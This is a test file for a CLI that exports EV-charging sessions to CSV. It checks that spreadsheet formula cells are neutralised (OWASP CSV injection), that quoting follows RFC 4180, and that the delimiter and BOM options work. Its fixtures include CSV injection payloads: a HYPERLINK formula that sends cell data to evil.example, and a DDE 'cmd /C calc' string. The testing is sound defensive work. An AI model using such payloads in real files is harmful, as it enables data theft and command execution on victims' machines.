// `ocpi-sessions export --format csv` for billing teams, as a real process over a real SQLite store, read back
// by a real CSV parser (csv-parse): formula-injection protection of hostile text cells (OWASP "CSV Injection"),
// numbers left alone, RFC 4180 quoting of quotes, delimiters and line breaks, the delimiter and the BOM options.
import { before, describe, it } from 'node:test';
import assert from 'node:assert/strict';
import { readFileSync } from 'node:fs';
import path from 'node:path';
import { parse } from 'csv-parse/sync';
import type { Session } from '../../src/domain/session.js';
import { CSV_COLUMNS } from '../../src/modules/sessions/service/export-csv.js';
import { writeSessions } from '../../src/modules/sessions/service/writer.js';
import { SqliteStore } from '../../src/store/sqlite/sqlite-store.js';
import { runCli } from '../support/cli.js';
import { tempDb } from '../support/server.js';

const BASE: Session = {
  countryCode: 'NL',
  partyId: 'CPO',
  id: 'S-0',
  startDateTime: Date.UTC(2025, 4, 1, 10, 0, 0),
  endDateTime: Date.UTC(2025, 4, 1, 11, 0, 0),
  kwh: 10,
  cdrToken: { countryCode: 'DE', partyId: 'EMP', uid: 'U-0', type: 'RFID', contractId: 'DE-EMP-C1-X' },
  authMethod: 'WHITELIST',
  locationId: 'LOC-0',
  evseUid: 'EVSE-0',
  connectorId: '1',
  currency: 'EUR',
  chargingPeriods: [],
  totalCost: { exclVat: 1, inclVat: 1.21 },
  status: 'COMPLETED',
  lastUpdated: Date.UTC(2025, 4, 1, 11, 0, 0),
};

/** Text a partner could send us that a spreadsheet would run as a formula (OWASP CSV Injection). */
const HOSTILE = {
  id: '=HYPERLINK("http://evil.example/?"&A1,"Click")',
  locationId: '+1+1',
  evseUid: "@SUM(1+1)*cmd|' /C calc'!A0",
  connectorId: '-2+3',
  uid: '\t=1+1',
  contractId: '\r=1+1',
};
/** Text that is not a formula but needs RFC 4180 quoting: quotes, every delimiter, line breaks. */
const AWKWARD = {
  id: 'S-"quoted", a,b;c\td',
  locationId: 'line\nbreak',
  evseUid: 'crlf\r\ninside',
  connectorId: 'a=b', // '=' not at the start: no formula
  uid: '-cmd', // text starting with '-': neutralised like any text
  contractId: '＝1+1', // full-width '=' (U+FF1D), which spreadsheets may also take for a formula
};

const hostile: Session = {
  ...BASE,
  id: HOSTILE.id,
  locationId: HOSTILE.locationId,
  evseUid: HOSTILE.evseUid,
  connectorId: HOSTILE.connectorId,
  cdrToken: { ...BASE.cdrToken, uid: HOSTILE.uid, contractId: HOSTILE.contractId },
};
const awkward: Session = {
  ...BASE,
  id: AWKWARD.id,
  locationId: AWKWARD.locationId,
  evseUid: AWKWARD.evseUid,
  connectorId: AWKWARD.connectorId,
  cdrToken: { ...BASE.cdrToken, uid: AWKWARD.uid, contractId: AWKWARD.contractId },
  // Negative numbers (a correction, a refund): numbers, not formulas, so never prefixed.
  kwh: -5,
  totalCost: { exclVat: -2.5, inclVat: -3.03 },
  lastUpdated: BASE.lastUpdated + 1000,
};

const col = (name: (typeof CSV_COLUMNS)[number]) => CSV_COLUMNS.indexOf(name);

/** The row a session must come back as, with the cells that must be neutralised given with their `'`. */
function expectedRow(
  s: Session,
  neutralised: Partial<Record<(typeof CSV_COLUMNS)[number], string>>,
): string[] {
  const row = [
    s.countryCode,
    s.partyId,
    s.id,
    s.status,
    '2025-05-01T10:00:00Z',
    '2025-05-01T11:00:00Z',
    String(s.kwh),
    String(s.totalCost!.exclVat),
    String(s.totalCost!.inclVat),
    s.currency,
    s.locationId,
    s.evseUid,
    s.connectorId,
    s.authMethod,
    s.cdrToken.uid,
    s.cdrToken.contractId,
    s.cdrToken.countryCode,
    s.cdrToken.partyId,
    new Date(s.lastUpdated).toISOString().replace('.000Z', 'Z'),
  ];
  for (const [name, value] of Object.entries(neutralised))
    row[col(name as (typeof CSV_COLUMNS)[number])] = value;
  return row;
}

const PROTECTED_HOSTILE = expectedRow(hostile, {
  session_id: `'${HOSTILE.id}`,
  location_id: "'+1+1",
  evse_uid: `'${HOSTILE.evseUid}`,
  connector_id: "'-2+3",
  token_uid: "'\t=1+1",
  contract_id: "'\r=1+1",
});
const PROTECTED_AWKWARD = expectedRow(awkward, { token_uid: "'-cmd", contract_id: "'＝1+1" });

describe('ocpi-sessions export --format csv: hostile cells, delimiters, BOM', () => {
  const db = tempDb('export-csv.db');
  const dir = path.dirname(db);

  before(async () => {
    const store = new SqliteStore(db);
    await writeSessions(store, [hostile, awkward], { mode: 'replace' });
    await store.close();
  });

  const exportCsv = (...args: string[]) => {
    const r = runCli(['export', '--db', db, '--format', 'csv', ...args]);
    assert.equal(r.status, 0, r.stderr);
    return r.stdout;
  };
  const parseRows = (text: string, delimiter: string) =>
    parse(text, { delimiter, bom: true, record_delimiter: '\r\n' }) as string[][];

  it('by default: formula cells prefixed with a single quote, negative numbers untouched, the rest round-trips', () => {
    const text = exportCsv();
    assert.ok(!text.startsWith('\uFEFF'), 'no BOM unless asked');
    const rows = parseRows(text, ',');
    assert.deepEqual(rows, [[...CSV_COLUMNS], PROTECTED_HOSTILE, PROTECTED_AWKWARD]);
    // The numbers are written bare (not quoted, no prefix), so a spreadsheet reads them as numbers.
    assert.match(text, /,-5,-2\.5,-3\.03,EUR,/);
    // RFC 4180: the quoted id with its doubled quotes, exactly.
    assert.ok(text.includes(`,"S-""quoted"", a,b;c\td",`), text);
    // No cell of any row starts with a formula character any more.
    for (const row of rows.slice(1))
      for (const cell of row)
        assert.ok(!/^[=+@\t\r＝＋－＠]/.test(cell) && !/^-[^0-9]/.test(cell), `unprotected cell ${cell}`);
  });

  it("--delimiter ';' --bom --out: the BOM bytes first, ';' between cells, same cells", () => {
    const out = path.join(dir, 'excel-de.csv');
    const r = runCli(['export', '--db', db, '--format', 'csv', '--delimiter', ';', '--bom', '--out', out]);
    assert.equal(r.status, 0, r.stderr);
    assert.match(r.stderr, /exported 2 sessions to .*excel-de\.csv \(csv\)/);
    const bytes = readFileSync(out);
    assert.deepEqual([...bytes.subarray(0, 3)], [0xef, 0xbb, 0xbf]);
    const text = bytes.toString('utf8');
    assert.ok(text.startsWith(`\uFEFF${CSV_COLUMNS.join(';')}\r\n`), text.slice(0, 80));
    assert.deepEqual(parseRows(text, ';'), [[...CSV_COLUMNS], PROTECTED_HOSTILE, PROTECTED_AWKWARD]);
    // A cell holding ';' is quoted now; one holding ',' is not (it is no delimiter here).
    assert.ok(text.includes(`;"S-""quoted"", a,b;c\td";`), text);
    assert.ok(text.includes(`;-5;-2.5;-3.03;EUR;`), text);
  });

  it('--delimiter tab: tab-separated, a cell holding a tab is quoted', () => {
    const text = exportCsv('--delimiter', 'tab');
    assert.ok(text.startsWith(`${CSV_COLUMNS.join('\t')}\r\n`));
    assert.deepEqual(parseRows(text, '\t'), [[...CSV_COLUMNS], PROTECTED_HOSTILE, PROTECTED_AWKWARD]);
    assert.ok(text.includes(`\t"'\t=1+1"\t`), 'the tab-led token uid, neutralised and quoted');
  });

  it('--no-csv-protect: every cell exactly as stored', () => {
    const rows = parseRows(exportCsv('--no-csv-protect'), ',');
    assert.deepEqual(rows, [[...CSV_COLUMNS], expectedRow(hostile, {}), expectedRow(awkward, {})]);
    assert.equal(rows[1]![col('session_id')], HOSTILE.id);
    assert.equal(rows[1]![col('contract_id')], '\r=1+1');
  });

  it('usage errors: an unknown delimiter; CSV options with another format', () => {
    for (const [args, message] of [
      [['--format', 'csv', '--delimiter', '|'], /'\|' is invalid\. Allowed choices are ,, ;, tab/],
      [['--bom'], /--bom: only with --format csv/],
      [
        ['--format', 'ocpi-2.2.1', '--delimiter', ';', '--no-csv-protect'],
        /--delimiter, --no-csv-protect: only with --format csv/,
      ],
    ] as const) {
      const r = runCli(['export', '--db', db, ...args]);
      assert.equal(r.status, 2, `${args.join(' ')}: ${r.stderr}`);
      assert.match(r.stderr, message);
      assert.equal(r.stdout, '');
    }
  });
});
